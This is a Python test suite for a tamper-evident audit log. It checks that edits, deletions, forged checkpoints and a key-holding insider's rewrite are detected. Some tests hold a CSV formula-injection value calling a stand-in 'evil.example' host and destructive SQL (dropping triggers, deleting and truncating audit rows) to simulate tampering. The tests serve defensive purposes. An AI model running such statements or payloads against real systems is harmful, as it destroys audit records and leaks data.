"""The tamper-evident audit log: append-only, hash-chained, signed outside the API,
verifiable offline, and checked against the DPO's own receipt so that even an insider
holding the signing key cannot rewrite what a DPO has verified."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from service.audit import Actor, record
from service.audit.checkpoints import sign_checkpoint
from service.audit.review import parse_export, receipt_for, verify, verify_stream
from service.audit.signer import Signer
from service.crypto import load_signing_key
from service.db import Database
from service.db.models import AuditCheckpoint, AuditEvent, AuditHead
from service.settings import Settings
from tests.service_fixtures import Service


def _db(s: Service) -> Database:
    return s.http.app.state.pprl.db  # type: ignore[attr-defined,no-any-return]


def _signing_key(s: Service):  # type: ignore[no-untyped-def]
    """The signing key, as the worker (or an insider on its host) would load it."""
    return load_signing_key(s.settings.audit_signing_key_path)


@pytest.fixture
def signer(service: Service) -> Iterator[Signer]:
    """The worker's signer thread, servicing checkpoint requests of ``service``."""
    stop = threading.Event()
    signer = Signer(_db(service), _signing_key(service), service.settings.checkpoint_every)
    thread = signer.start(stop)
    yield signer
    stop.set()
    thread.join(timeout=10)


def _events(s: Service, n: int) -> None:
    with _db(s).transaction() as session:
        for i in range(n):
            record(session, actor=Actor("tester", "admin"), action="test.event", details={"i": i})


def _report(s: Service):  # type: ignore[no-untyped-def]
    state = s.http.app.state.pprl  # type: ignore[attr-defined]
    with state.db.transaction() as session:
        return verify(session, state.audit_public_key)


def _drop_triggers(s: Service) -> None:
    db = _db(s)
    with db.engine.begin() as conn:
        if db.is_sqlite:
            for name in ("audit_events_no_update", "audit_events_no_delete"):
                conn.execute(text(f"DROP TRIGGER {name}"))
        else:
            conn.execute(text("DROP TRIGGER audit_events_append_only ON audit_events"))


def test_the_database_refuses_update_and_delete(service: Service) -> None:
    _events(service, 3)
    db = _db(service)
    for statement in (
        "UPDATE audit_events SET actor = 'someone else' WHERE seq = 2",
        "DELETE FROM audit_events WHERE seq = 2",
    ):
        with pytest.raises(DBAPIError, match="append-only"), db.engine.begin() as conn:
            conn.execute(text(statement))
    assert _report(service).ok


def test_a_head_loaded_in_the_session_moves_with_the_events_recorded(service: Service) -> None:
    """record() writes through Core statements, which the ORM does not see: a head the
    session loaded before is read anew, not kept as it was."""
    _events(service, 2)
    with _db(service).transaction() as session:
        head = session.execute(select(AuditHead).where(AuditHead.id == 1)).scalar_one()
        before = head.seq
        record(session, actor=Actor("tester", "admin"), action="test.event")
        assert head.seq == before + 1
        again = session.execute(select(AuditHead).where(AuditHead.id == 1)).scalar_one()
        assert (again.seq, again.hash) == (before + 1, head.hash)
    assert _report(service).ok


def test_an_edited_event_is_named(service: Service) -> None:
    _events(service, 5)
    _drop_triggers(service)
    with _db(service).engine.begin() as conn:
        conn.execute(text("UPDATE audit_events SET details = :d WHERE seq = 4"), {"d": '{"i":99}'})
    report = _report(service)
    assert not report.ok and report.broken_at == 4 and "edited" in (report.reason or "")
    assert report.verified_up_to == 3


def test_a_deleted_event_is_named(service: Service) -> None:
    _events(service, 5)
    _drop_triggers(service)
    with _db(service).engine.begin() as conn:
        conn.execute(text("DELETE FROM audit_events WHERE seq = 3"))
    report = _report(service)
    assert not report.ok and report.broken_at == 3 and "missing" in (report.reason or "")


def test_a_reordered_pair_is_named(service: Service) -> None:
    _events(service, 5)
    _drop_triggers(service)
    with _db(service).engine.begin() as conn:
        conn.execute(text("UPDATE audit_events SET seq = -1 WHERE seq = 3"))
        conn.execute(text("UPDATE audit_events SET seq = 3 WHERE seq = 4"))
        conn.execute(text("UPDATE audit_events SET seq = 4 WHERE seq = -1"))
    report = _report(service)
    assert not report.ok and report.broken_at == 3


def test_export_verifies_offline_and_tampering_in_the_file_is_caught(
    service: Service, signer: Signer, tmp_path: Path
) -> None:
    s = service
    s.token("dpo", "dpo")
    _events(s, 7)
    with _db(s).transaction() as session:  # a signed checkpoint on demand
        sign_checkpoint(session, _signing_key(s), manual=True)
    dpo = s.as_(s.tokens["dpo"])
    key_hex = s.http.get("/v1/audit/public-key").json()["public_key_hex"]
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

    key = Ed25519PublicKey.from_public_bytes(bytes.fromhex(key_hex))
    for fmt in ("jsonl", "csv"):
        body = s.http.get("/v1/audit/export", params={"format": fmt}, headers=dpo).text
        events, checkpoints, stated = parse_export(body)
        assert stated == key_hex and checkpoints
        report = verify_stream(events, checkpoints, key)
        assert report.ok and report.checkpoints_verified >= 1, report
    # edit one event in the JSONL file: named
    lines = s.http.get("/v1/audit/export", headers=dpo).text.splitlines()
    edited = [json.loads(line) for line in lines]
    edited[3]["actor"] = "mallory"
    events, checkpoints, _ = parse_export("\n".join(json.dumps(e) for e in edited))
    report = verify_stream(events, checkpoints, key)
    assert not report.ok and report.broken_at == edited[3]["seq"]
    # swap two event lines: named
    swapped = lines[:]
    swapped[2], swapped[3] = swapped[3], swapped[2]
    report = verify_stream(*parse_export("\n".join(swapped))[:2], key)
    assert not report.ok and report.broken_at == 2


def test_a_forged_checkpoint_is_rejected(service: Service) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    _events(service, 4)
    with _db(service).transaction() as session:
        sign_checkpoint(session, Ed25519PrivateKey.generate(), manual=True)  # not the service's key
    report = _report(service)
    assert not report.ok and "forged" in (report.reason or "")


def test_rewriting_the_whole_chain_is_caught_by_a_signed_checkpoint(service: Service) -> None:
    from service.audit.chain import event_hash

    state = service.http.app.state.pprl  # type: ignore[attr-defined]
    _events(service, 4)
    with state.db.transaction() as session:
        sign_checkpoint(session, _signing_key(service), manual=True)
    _drop_triggers(service)
    # an insider recomputes every hash after editing event 2: the chain alone looks fine
    with state.db.transaction() as session:
        rows = session.execute(select(AuditEvent).order_by(AuditEvent.seq)).scalars().all()
        prev = "0" * 64
        for row in rows:
            if row.seq == 2:
                row.details = '{"i":1000}'
            row.prev_hash = prev
            d = {
                c: getattr(row, c)
                for c in (
                    "seq",
                    "at",
                    "actor",
                    "role",
                    "action",
                    "project_id",
                    "subject",
                    "outcome",
                    "details",
                    "request_id",
                    "client",
                    "prev_hash",
                )
            }
            row.hash = event_hash(d)
            prev = row.hash
    report = _report(service)
    assert not report.ok and "checkpoint" in (report.reason or "")


@pytest.mark.postgres
def test_gap_free_sequence_under_20_concurrent_writers(
    settings: Settings, service: Service, signer: Signer
) -> None:
    if not settings.url.startswith("postgresql"):
        pytest.skip("the concurrency proof is for PostgreSQL; SQLite has a single writer")
    db = Database(settings.url)
    errors: list[BaseException] = []

    def writer(n: int) -> None:
        try:
            for i in range(10):
                with db.transaction() as session:
                    record(
                        session,
                        actor=Actor(f"writer-{n}", "admin"),
                        action="test.concurrent",
                        details={"writer": n, "i": i},
                    )
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    with db.transaction() as session:
        seqs = list(session.execute(select(AuditEvent.seq).order_by(AuditEvent.seq)).scalars())
        checkpoints = session.execute(select(AuditCheckpoint)).scalars().all()
    assert seqs == list(range(1, len(seqs) + 1)) and len(seqs) >= 200
    assert _report(service).ok
    signer.service_once()
    with db.transaction() as session:
        checkpoints = session.execute(select(AuditCheckpoint)).scalars().all()
    assert checkpoints  # the signer signs every 100 events
    db.dispose()


# --- the insider holding the signing key, against the DPO's receipt -----------------


def _rechain(s: Service, edit: dict[int, str] | None = None, drop_after: int | None = None) -> None:
    """What an insider with database rights and the signing key does: drop the triggers,
    edit events, recompute every hash, delete the checkpoints and sign new ones."""
    from service.audit.chain import GENESIS, HASHED_FIELDS, event_hash
    from service.db.models import AuditHead

    db = _db(s)
    with db.engine.begin() as conn:
        if db.is_sqlite:
            for table in ("audit_events", "audit_checkpoints"):
                for verb in ("update", "delete"):
                    conn.execute(text(f"DROP TRIGGER {table}_no_{verb}"))
        else:
            for table in ("audit_events", "audit_checkpoints"):
                conn.execute(text(f"DROP TRIGGER {table}_append_only ON {table}"))
    with db.transaction() as session:
        if drop_after is not None:
            session.execute(text("DELETE FROM audit_events WHERE seq > :n"), {"n": drop_after})
        session.execute(text("DELETE FROM audit_checkpoints"))
        rows = session.execute(select(AuditEvent).order_by(AuditEvent.seq)).scalars().all()
        prev = GENESIS
        for row in rows:
            if edit and row.seq in edit:
                row.details = edit[row.seq]
            row.prev_hash = prev
            row.hash = event_hash({f: getattr(row, f) for f in HASHED_FIELDS})
            prev = row.hash
        head = session.get(AuditHead, 1)
        assert head is not None
        head.seq, head.hash = rows[-1].seq, rows[-1].hash
        sign_checkpoint(session, _signing_key(s), manual=True)  # the insider re-signs


def test_rewrite_after_receipt_is_caught_even_with_the_signing_key(service: Service) -> None:
    s = service
    _events(s, 12)
    state = s.http.app.state.pprl  # type: ignore[attr-defined]
    with _db(s).transaction() as session:
        sign_checkpoint(session, _signing_key(s), manual=True)
    with _db(s).snapshot() as session:
        first = verify(session, state.audit_public_key)
        from service.audit.review import _checkpoints

        receipt = receipt_for(first, _checkpoints(session), service_key_hex(s))
    assert first.ok and receipt is not None and receipt.seq == first.verified_up_to
    _rechain(s, edit={5: '{"i":4000}'})
    with _db(s).snapshot() as session:
        # without a receipt the rewritten, re-signed log verifies: the key holder wins...
        assert verify(session, state.audit_public_key).ok
        # ...but not against what the DPO verified before
        report = verify(session, state.audit_public_key, since=receipt)
    assert (not report.ok and "receipt" in (report.reason or "")) or "differs" in (
        report.reason or ""
    )


def test_cutting_the_log_after_a_receipt_is_caught(service: Service) -> None:
    s = service
    _events(s, 10)
    state = s.http.app.state.pprl  # type: ignore[attr-defined]
    with _db(s).snapshot() as session:
        report = verify(session, state.audit_public_key)
        receipt = receipt_for(report, [], service_key_hex(s))
    assert receipt is not None
    _rechain(s, drop_after=7)  # the newest events deleted, the rest re-signed
    with _db(s).snapshot() as session:
        assert verify(session, state.audit_public_key).ok
        cut = verify(session, state.audit_public_key, since=receipt)
    assert not cut.ok and "deleted" in (cut.reason or "")


def test_a_vanished_checkpoint_is_caught(service: Service) -> None:
    s = service
    _events(s, 6)
    state = s.http.app.state.pprl  # type: ignore[attr-defined]
    with _db(s).transaction() as session:
        sign_checkpoint(session, _signing_key(s), manual=True)
    _events(s, 3)
    with _db(s).snapshot() as session:
        from service.audit.review import _checkpoints

        report = verify(session, state.audit_public_key)
        receipt = receipt_for(report, _checkpoints(session), service_key_hex(s))
    assert receipt is not None and len(receipt.checkpoints) == 1
    _rechain(s)  # same events, checkpoints deleted and one new signed at the head
    with _db(s).snapshot() as session:
        gone = verify(session, state.audit_public_key, since=receipt)
    assert not gone.ok and "vanished" in (gone.reason or "")


def service_key_hex(s: Service) -> str:
    return str(s.http.get("/v1/audit/public-key").json()["public_key_hex"])


def test_every_export_ends_with_a_fresh_checkpoint(service: Service, signer: Signer) -> None:
    s = service
    s.token("dpo", "dpo")
    _events(s, 5)
    body = s.http.get("/v1/audit/export", headers=s.as_(s.tokens["dpo"])).text
    events, checkpoints, _ = parse_export(body)
    exported = [e for e in events if e["action"] == "audit.exported"][-1]
    assert checkpoints and max(int(c["seq"]) for c in checkpoints) >= exported["seq"]
    key = _pub(s)
    report = verify_stream(events, checkpoints, key, require_signed=True)
    assert report.ok and report.unsigned_tail == 0 and report.warning is None


def _pub(s: Service):  # type: ignore[no-untyped-def]
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

    return Ed25519PublicKey.from_public_bytes(bytes.fromhex(service_key_hex(s)))


def test_an_export_edited_before_its_first_checkpoint_fails_offline(
    service: Service, signer: Signer
) -> None:
    """The export's only checkpoint is the fresh one at its end: an event edited and the
    whole file re-chained (no key needed for that) no longer matches it."""
    from service.audit.chain import GENESIS, event_hash

    s = service
    s.token("dpo", "dpo")
    _events(s, 8)
    body = s.http.get("/v1/audit/export", headers=s.as_(s.tokens["dpo"])).text
    events, checkpoints, stated = parse_export(body)
    assert len(checkpoints) == 1
    prev = GENESIS
    for event in events:
        if event["seq"] == 3:
            event["details"] = {"i": 999}
        event["prev_hash"] = prev
        event["hash"] = event_hash(event)
        prev = event["hash"]
    report = verify_stream(events, checkpoints, _pub(s), stated_key=stated, require_signed=True)
    assert not report.ok and "rewritten" in (report.reason or "")
    # and with the checkpoints stripped from the file, nothing vouches for it: not proved
    stripped = verify_stream(events, [], _pub(s), stated_key=stated, require_signed=True)
    assert not stripped.ok and "cannot be proved" in (stripped.reason or "")


def test_a_wrong_public_key_fails(service: Service, signer: Signer) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    s = service
    s.token("dpo", "dpo")
    _events(s, 3)
    events, checkpoints, stated = parse_export(
        s.http.get("/v1/audit/export", headers=s.as_(s.tokens["dpo"])).text
    )
    wrong = Ed25519PrivateKey.generate().public_key()
    assert verify_stream(events, checkpoints, _pub(s), stated_key=stated, require_signed=True).ok
    for stated_key in (stated, None):
        report = verify_stream(
            events, checkpoints, wrong, stated_key=stated_key, require_signed=True
        )
        assert not report.ok and "key" in (report.reason or ""), report


def test_an_unsigned_tail_is_reported_amber(service: Service) -> None:
    s = service
    _events(s, 4)
    with _db(s).transaction() as session:
        sign_checkpoint(session, _signing_key(s), manual=True)
    _events(s, 3)
    report = _report(s)
    assert report.ok and report.unsigned_tail == 3 and "3 events" in (report.warning or "")
    assert "warning" in report.summary()


def test_checkpoint_requests_are_signed_by_the_signer_not_the_api(
    service: Service, signer: Signer
) -> None:
    s = service
    state = s.http.app.state.pprl  # type: ignore[attr-defined]
    assert not hasattr(state, "audit_signing_key")
    s.token("dpo", "dpo")
    r = s.http.post("/v1/audit/checkpoints", headers=s.as_(s.tokens["dpo"]))
    assert r.status_code == 200 and r.json()["status"] == "signed", r.text
    assert r.json()["seq"] >= 2
    assert ("audit.checkpoint_requested", "ok") in s.audit_actions()


def test_without_a_signer_a_checkpoint_request_stays_pending(settings: Settings) -> None:
    from fastapi.testclient import TestClient

    from service.app import create_app
    from service.bootstrap import initialise

    settings.checkpoint_wait_seconds = 0.3
    done = initialise(settings)
    # the API needs only the public key: it starts with the signing key unreadable
    settings.audit_signing_key_path.rename(settings.audit_signing_key_path.with_suffix(".away"))
    app = create_app(settings)
    with TestClient(app, base_url="https://testserver") as http:
        s = Service(settings=settings, http=http, admin=done.admin_token)
        s.token("dpo", "dpo")
        r = http.post("/v1/audit/checkpoints", headers=s.as_(s.tokens["dpo"]))
        assert r.status_code == 202 and r.json()["status"] == "pending"
    app.state.pprl.db.dispose()


def test_receipt_files_are_authenticated(tmp_path: Path) -> None:
    from service.audit.receipt import Receipt, ReceiptError, load_receipt, save_receipt

    path = tmp_path / "r.json"
    save_receipt(path, Receipt(5, "ab" * 32, "cd" * 32, {3: "ef" * 32}))
    assert load_receipt(path).checkpoints == {3: "ef" * 32}
    data = json.loads(path.read_text())
    data["seq"] = 2  # a receipt moved back, to hide what came after
    path.write_text(json.dumps(data))
    with pytest.raises(ReceiptError, match="altered"):
        load_receipt(path)


def test_cli_verify_keeps_a_receipt_and_catches_a_later_rewrite(
    service: Service, signer: Signer, tmp_path: Path
) -> None:
    """`pprl audit verify --file` writes a receipt; a later export of a log rewritten and
    re-signed by the key holder fails against it (exit 2), offline."""
    from typer.testing import CliRunner

    from service.cli import app

    s = service
    s.token("dpo", "dpo")
    _events(s, 6)
    first, later = tmp_path / "first.jsonl", tmp_path / "later.jsonl"
    receipt = tmp_path / "receipt.json"
    first.write_text(s.http.get("/v1/audit/export", headers=s.as_(s.tokens["dpo"])).text)
    key = service_key_hex(s)
    runner = CliRunner()
    ok = runner.invoke(app, ["audit", "verify", "--file", str(first), "--public-key", key,
                             "--receipt", str(receipt), "--json"])  # fmt: skip
    assert ok.exit_code == 0, ok.output
    assert json.loads(ok.stdout)["ok"] and receipt.exists()
    _rechain(s, edit={2: '{"i":77}'})
    later.write_text(s.http.get("/v1/audit/export", headers=s.as_(s.tokens["dpo"])).text)
    # the rewritten export verifies on its own (same key, fresh signatures)...
    alone = runner.invoke(app, ["audit", "verify", "--file", str(later), "--public-key", key,
                                "--no-receipt", "--receipt", str(tmp_path / "none.json")])  # fmt: skip
    assert alone.exit_code == 0, alone.output
    # ...and fails against the receipt
    bad = runner.invoke(app, ["audit", "verify", "--file", str(later), "--since", str(receipt),
                              "--receipt", str(receipt), "--json"])  # fmt: skip
    assert bad.exit_code == 2, bad.output
    assert not json.loads(bad.stdout)["ok"]
    wrong = runner.invoke(app, ["audit", "verify", "--file", str(first), "--public-key",
                                "11" * 32, "--no-receipt"])  # fmt: skip
    assert wrong.exit_code != 0


def test_csv_export_neutralises_formulas_and_still_verifies(
    service: Service, signer: Signer
) -> None:
    import csv
    import io

    s = service
    s.token("dpo", "dpo")
    s.token('=HYPERLINK("http://evil.example/?x="&A1,"click")', "analyst")
    s.token("@SUM(1+1)", "analyst")
    body = s.http.get("/v1/audit/export", params={"format": "csv"},
                      headers=s.as_(s.tokens["dpo"])).text  # fmt: skip
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    events, checkpoints, stated = parse_export(body)
    assert any(e["subject"] and e["subject"].startswith("=HYPERLINK") for e in events)
    assert verify_stream(events, checkpoints, _pub(s), stated_key=stated, require_signed=True).ok


def test_incremental_verification_matches_the_full_walk(service: Service) -> None:
    from service.audit.heads import VerifiedHeads

    s = service
    state = s.http.app.state.pprl  # type: ignore[attr-defined]
    heads = VerifiedHeads()
    _events(s, 20)
    for _ in range(3):
        with _db(s).snapshot() as session:
            inc = heads.verify(session, state.audit_public_key, "here")
            full = verify(session, state.audit_public_key)
        assert inc.ok and full.ok and inc.verified_up_to == full.verified_up_to
        assert inc.events == full.events
        _events(s, 5)
    # the remembered head rewritten: the incremental check fails too
    _drop_triggers(s)
    with _db(s).engine.begin() as conn:
        conn.execute(
            text(
                "UPDATE audit_events SET details = '{}' WHERE seq = (SELECT MAX(seq) FROM audit_events) - 5"
            )
        )
    with _db(s).snapshot() as session:
        assert not heads.verify(session, state.audit_public_key, "here").ok


def test_300_bad_tokens_make_at_most_a_few_events(service: Service) -> None:
    from service.api.deps import denial_gate

    s = service
    state = s.http.app.state.pprl  # type: ignore[attr-defined]
    now = [1000.0]
    denial_gate(state).clock = lambda: now[0]  # the window closes when the test says so
    before = len(s.audit_actions())
    codes = [
        s.http.get("/v1/projects", headers=s.as_(f"pprl_bad{i}")).status_code for i in range(300)
    ]
    assert codes[0] == 401 and set(codes) <= {401, 429} and codes[-1] == 429
    now[0] += 61  # the window closes; the next denial writes its count
    assert s.http.get("/v1/projects", headers=s.as_("pprl_bad")).status_code == 401  # refilled
    with _db(s).snapshot() as session:
        rows = session.execute(select(AuditEvent).where(AuditEvent.seq > before)).scalars().all()
    denials = [r for r in rows if r.action.startswith("access.denied")]
    assert 1 <= len(denials) <= 3, [(r.action, r.details) for r in denials]
    counted = sum(json.loads(r.details).get("count", 1) for r in denials)
    assert counted == 301
    assert _report(s).ok


@pytest.mark.postgres
def test_the_app_role_cannot_drop_triggers_alter_or_rewrite_the_audit(
    settings: Settings, service: Service
) -> None:
    """Migrations run as the owner; the service connects as a role that owns nothing."""
    import uuid

    import psycopg
    from sqlalchemy.engine import make_url

    from service.db.roles import grant_app_role

    if not settings.url.startswith("postgresql"):
        pytest.skip("roles are a PostgreSQL matter")
    _events(service, 3)
    role = f"pprl_app_{uuid.uuid4().hex[:8]}"
    owner_url = make_url(settings.url)
    try:
        tables = grant_app_role(settings.url, role)
        assert "audit_events" in tables
        app_db = Database(owner_url.set(username=role).render_as_string(hide_password=False))
        # the service works as the app role: events are appended and verify
        with app_db.transaction() as session:
            record(session, actor=Actor("app", "admin"), action="test.as_app_role")
        for statement in (
            "DROP TRIGGER audit_events_append_only ON audit_events",
            "ALTER TABLE audit_events DISABLE TRIGGER ALL",
            "ALTER TABLE audit_events ADD COLUMN x int",
            "UPDATE audit_events SET actor = 'mallory' WHERE seq = 2",
            "DELETE FROM audit_events WHERE seq = 2",
            "TRUNCATE audit_events",
            "DELETE FROM audit_checkpoints",
            "DROP TABLE audit_checkpoints",
            "CREATE TABLE shadow (x int)",
        ):
            with pytest.raises(DBAPIError) as caught, app_db.engine.begin() as conn:
                conn.execute(text(statement))
            assert isinstance(caught.value.orig, psycopg.errors.InsufficientPrivilege), statement
        app_db.dispose()
        assert _report(service).ok
    finally:
        with psycopg.connect(
            owner_url.set(drivername="postgresql").render_as_string(hide_password=False),
            autocommit=True,
        ) as conn:
            conn.execute(f'DROP OWNED BY "{role}"')
            conn.execute(f'DROP ROLE IF EXISTS "{role}"')


def test_online_verify_with_the_embedded_signer_keeps_and_extends_a_receipt(
    service: Service, tmp_path: Path
) -> None:
    """`pprl serve` (its worker signs), `pprl audit verify` twice: the first leaves a receipt,
    the second proves the log extends it; `pprl audit checkpoint` is signed by the worker."""
    import os
    import signal
    import subprocess
    import sys

    from service.tlscert import make_local_tls
    from tests.live_server import free_port, service_env, start_server

    s = service
    dpo = s.token("dpo", "dpo")
    tls = make_local_tls(tmp_path / "tls")
    port = free_port()
    env = service_env(s.settings, PPRL_WORKER_EMBEDDED="true", PPRL_WORKER_POLL_SECONDS="0.2")
    server = start_server(env, tls, port, log=tmp_path / "server.log")
    client = {**os.environ, "PPRL_URL": f"https://127.0.0.1:{port}", "PPRL_TOKEN": dpo,
              "PPRL_CA_BUNDLE": str(tls.ca_cert), "XDG_CONFIG_HOME": str(tmp_path / "cfg")}  # fmt: skip

    def pprl(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "service.cli", *args], env=client,
                              capture_output=True, text=True, timeout=120)  # fmt: skip

    try:
        signed = pprl("audit", "checkpoint", "--json")
        assert signed.returncode == 0, signed.stderr
        assert json.loads(signed.stdout)["status"] == "signed"
        first = pprl("audit", "verify", "--json")
        assert first.returncode == 0, first.stderr
        report = json.loads(first.stdout)
        assert report["ok"] and report["unsigned_tail"] == 0 and report["receipt"]
        _events(s, 3)
        second = pprl("audit", "verify", "--json")
        assert second.returncode == 0, second.stderr
        again = json.loads(second.stdout)
        assert again["ok"] and again["since"]["seq"] == report["verified_up_to"]
        assert again["verified_up_to"] > report["verified_up_to"]
    finally:
        server.send_signal(signal.SIGTERM)
        server.wait(timeout=60)
